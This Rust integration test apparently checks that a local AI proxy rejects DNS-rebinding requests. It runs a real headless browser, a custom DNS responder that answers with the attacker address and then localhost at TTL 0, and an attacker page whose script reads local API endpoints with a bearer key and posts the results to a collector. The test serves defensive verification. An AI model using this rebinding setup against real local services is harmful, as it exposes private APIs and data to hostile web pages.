//! Test of DNS rebinding in a real browser (N05), with a name server in a network namespace.

use std::net::{Ipv4Addr, SocketAddr};
use std::process::Stdio;
use std::sync::Arc;
use std::time::Duration;

use serde_json::Value;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream, UdpSocket};
use tokio::process::{Child, Command};
use tokio::sync::mpsc::{UnboundedReceiver, unbounded_channel};
use tokio::task::JoinSet;

use crate::support::{KEY, Options, Program, in_network_namespace, run_shell, simulator};

const REBOUND_NAME: &str = "rb.test";
/// Address of the attacker's page. The program is on 127.0.0.1, at the same port.
const ATTACKER: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 2);
/// Requests of the page, which even has the key: the page's name alone must prevent access.
const REQUEST_ATTEMPTS: [(&str, &str); 5] = [
    ("GET", "/healthz"),
    ("GET", "/"),
    ("GET", "/v1/models"),
    ("POST", "/v1/chat/completions"),
    ("POST", "/control/status"),
];

/// Time limit for a browser that never reports.
const BROWSER_TIMEOUT: Duration = Duration::from_secs(30);
const BROWSERS: usize = 4;

#[tokio::test]
async fn n05_a_page_that_rebinds_its_name_reads_nothing_in_a_real_browser() {
    if !in_network_namespace("rebinding::n05_a_page_that_rebinds_its_name_reads_nothing_in_a_real_browser")
        .await
    {
        return;
    }
    let names = tempfile::tempdir().unwrap();
    let list = names.path().join("resolv.conf");
    std::fs::write(&list, "nameserver 127.0.0.1\n").unwrap();
    run_shell(&format!("mount --bind {} /etc/resolv.conf", list.display())).await;
    tokio::spawn(answer_names(UdpSocket::bind("127.0.0.1:53").await.unwrap()));

    let simulator = simulator(&["alice"]).await;
    let program = Program::start(&simulator).await;
    for tried in read_by_a_page(&program).await {
        let (status, text) = (&tried["status"], tried["text"].as_str().unwrap_or_default());
        assert_eq!(status, 403, "{tried}");
        assert!(text.contains("host_not_allowed") && !text.contains("gpt"), "{tried}");
    }
    let refused = program.metric("mammouth_refused_total").await;
    assert!(refused >= REQUEST_ATTEMPTS.len() as u64, "the page did get to the program: {refused}");
    assert!(simulator.calls().is_empty());
    program.stop().await;

    // The same page under an allowed name succeeds, so only the name prevented access.
    let program =
        Program::start_with(&simulator, Options::default().arg("--allow-host").arg(REBOUND_NAME)).await;
    let read = read_by_a_page(&program).await;
    assert_eq!(read[0]["status"], 200, "{read:?}");
    assert_eq!(read[2]["status"], 200, "{read:?}");
}

/// Responses that a page at the program's port received, one per request.
async fn read_by_a_page(program: &Program) -> Vec<Value> {
    for _ in 0..BROWSERS {
        if let Some(read) = read_by_one_browser(program).await {
            assert_eq!(read.len(), REQUEST_ATTEMPTS.len());
            return read;
        }
    }
    panic!("no page said what it saw");
}

/// Responses in one browser; `None` if the page did not report, because the browser used the second address
/// first or did not start.
async fn read_by_one_browser(program: &Program) -> Option<Vec<Value>> {
    let (collector, mut collected) = collect().await;
    let site = TcpListener::bind((ATTACKER, program.port)).await.unwrap();
    let mut attack = JoinSet::new();
    attack.spawn(serve_until_gone(site, page(collector)));
    let profile = tempfile::tempdir().unwrap();
    let mut browser = browser(profile.path(), &format!("http://{REBOUND_NAME}:{}/", program.port));
    let read = tokio::time::timeout(BROWSER_TIMEOUT, collected.recv()).await;
    browser.kill().await.unwrap();
    attack.shutdown().await;
    let read = read.ok()?.expect("a report");
    Some(serde_json::from_str(&read).unwrap_or_else(|_| panic!("{read}")))
}

fn browser(profile: &std::path::Path, url: &str) -> Child {
    let mut command = Command::new("chromium");
    command.args(["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"]);
    command.args(["--no-first-run", "--disable-background-networking", "--no-proxy-server"]);
    command.arg(format!("--user-data-dir={}", profile.display())).arg(url).env("HOME", profile);
    command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).kill_on_drop(true);
    command.spawn().expect("chromium is installed (script/setup test)")
}

fn page(collector: SocketAddr) -> String {
    let tries = serde_json::to_string(&REQUEST_ATTEMPTS).unwrap();
    format!(
        "<!doctype html><script>(async () => {{
            await fetch('/leave');
            const seen = [];
            for (const [method, path] of {tries}) {{
                const headers = {{ Authorization: 'Bearer {KEY}' }};
                const got = await fetch(path, {{ method, headers }}).then(
                    async (answer) => ({{ path, status: answer.status, text: await answer.text() }}),
                    (error) => ({{ path, status: 0, text: String(error) }}));
                seen.push(got);
            }}
            await fetch('http://{collector}/', {{ method: 'POST', mode: 'no-cors', body: JSON.stringify(seen) }});
        }})();</script>"
    )
}

/// Serves the attacker's page until the page requests `/leave`, then closes the listener and all connections,
/// so that the browser uses the name's other address.
async fn serve_until_gone(listener: TcpListener, page: String) {
    let page = Arc::new(page);
    let (leave, mut left) = unbounded_channel();
    let mut connections = JoinSet::new();
    let mut last = loop {
        let (mut socket, _) = tokio::select! {
            accepted = listener.accept() => accepted.unwrap(),
            socket = left.recv() => break socket.expect("the page asks once"),
        };
        let (page, leave) = (Arc::clone(&page), leave.clone());
        connections.spawn(async move {
            if read_request(&mut socket).await.starts_with("GET /leave ") {
                let _ = leave.send(socket);
            } else {
                answer(&mut socket, "text/html", &page).await;
            }
        });
    };
    drop(listener);
    connections.shutdown().await;
    answer(&mut last, "text/plain", "gone").await;
}

/// Starts the server that receives the page's report.
async fn collect() -> (SocketAddr, UnboundedReceiver<String>) {
    let listener = TcpListener::bind((ATTACKER, 0)).await.unwrap();
    let address = listener.local_addr().unwrap();
    let (say, said) = unbounded_channel();
    tokio::spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            let say = say.clone();
            tokio::spawn(async move {
                let request = read_request(&mut socket).await;
                answer(&mut socket, "text/plain", "thanks").await;
                if let Some((head, body)) = request.split_once("\r\n\r\n")
                    && head.starts_with("POST ")
                {
                    let _ = say.send(body.to_owned());
                }
            });
        }
    });
    (address, said)
}

/// Reads a complete request; empty if the browser only opened a connection.
async fn read_request(socket: &mut TcpStream) -> String {
    let mut bytes = Vec::new();
    loop {
        let text = String::from_utf8_lossy(&bytes);
        if let Some((head, body)) = text.split_once("\r\n\r\n") {
            let length = head.to_lowercase().split_once("content-length: ").map_or(0, |(_, rest)| {
                rest.lines().next().and_then(|length| length.trim().parse().ok()).unwrap_or(0)
            });
            if body.len() >= length {
                return text.into_owned();
            }
        }
        if socket.read_buf(&mut bytes).await.unwrap_or(0) == 0 {
            return String::new();
        }
    }
}

async fn answer(socket: &mut TcpStream, kind: &str, body: &str) {
    let length = body.len();
    let head = format!(
        "HTTP/1.1 200 OK\r\ncontent-type: {kind}\r\ncontent-length: {length}\r\nconnection: close\r\n\r\n"
    );
    // A browser that has ended needs no response.
    let _ = socket.write_all((head + body).as_bytes()).await;
    let _ = socket.shutdown().await;
}

/// Answers every DNS query for the page's name with both addresses, the attacker's first, with a TTL of 0.
async fn answer_names(socket: UdpSocket) {
    let mut packet = [0; 512];
    while let Ok((length, from)) = socket.recv_from(&mut packet).await {
        let question = &packet[12..length];
        let end = question.iter().position(|byte| *byte == 0).unwrap() + 5;
        let is_ours = question.starts_with(b"\x02rb\x04test\0\0\x01");
        let addresses = if is_ours { vec![ATTACKER, Ipv4Addr::LOCALHOST] } else { Vec::new() };
        let mut reply = packet[..2].to_vec();
        reply.extend([0x81, 0x80, 0, 1, 0, u8::try_from(addresses.len()).unwrap(), 0, 0, 0, 0]);
        reply.extend(&question[..end]);
        for address in addresses {
            reply.extend([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 0, 0, 4]);
            reply.extend(address.octets());
        }
        let _ = socket.send_to(&reply, from).await;
    }
}
